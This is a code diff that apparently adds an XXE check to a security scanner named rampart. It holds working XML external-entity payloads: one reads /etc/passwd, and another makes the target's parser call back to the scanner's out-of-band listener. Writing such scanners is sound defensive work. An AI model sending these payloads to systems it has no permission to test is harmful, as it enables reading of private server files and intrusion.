@@ -1059,3 +1059,53 @@ pub async fn methods(ctx: &Ctx, root: &Url) {
         let _ = ctx.send(Request::new("DELETE", target)).await;
     }
 }
+
+/// XML external entities on endpoints that take XML: a local file's content in the reply, or a
+/// request for a token path on rampart's listener.
+pub async fn xxe(ctx: &Ctx, endpoints: &[Endpoint]) {
+    for ep in endpoints.iter().filter(|e| e.xml) {
+        let file = "<?xml version=\"1.0\"?>\n<!DOCTYPE r [<!ENTITY rampart SYSTEM \"file:///etc/passwd\">]>\n<r>&rampart;</r>";
+        let req = Request::new(&ep.method, ep.url.clone())
+            .body("application/xml", file.as_bytes().to_vec());
+        if let Some(resp) = ctx.send(req.clone()).await
+            && let Some(m) = file_markers().find(&resp.text())
+        {
+            ctx.report(url_finding(
+                "dast/xxe",
+                &ep.method,
+                &ep.url,
+                None,
+                "An external entity naming file:///etc/passwd was expanded into the reply",
+                evidence(
+                    format!("{}\n{}", req.describe(), resp.describe(Some(m.as_str()))),
+                    &[],
+                ),
+            ));
+            continue;
+        }
+        let Some(oob) = &ctx.oob else { continue };
+        let t = token();
+        let body = format!(
+            "<?xml version=\"1.0\"?>\n<!DOCTYPE r [<!ENTITY rampart SYSTEM \"{}\">]>\n<r>&rampart;</r>",
+            oob.url(&format!("xxe/{t}"))
+        );
+        let req =
+            Request::new(&ep.method, ep.url.clone()).body("application/xml", body.into_bytes());
+        let Some(resp) = ctx.send(req.clone()).await else {
+            continue;
+        };
+        if let Some(hit) = oob.wait_for(&t, Duration::from_millis(1500)).await.first() {
+            ctx.report(url_finding(
+                "dast/xxe",
+                &ep.method,
+                &ep.url,
+                None,
+                format!(
+                    "The XML parser fetched an external entity from rampart's listener: {} {}",
+                    hit.method, hit.path
+                ),
+                evidence(format!("{}\n{}", req.describe(), resp.describe(None)), &[]),
+            ));
+        }
+    }
+}
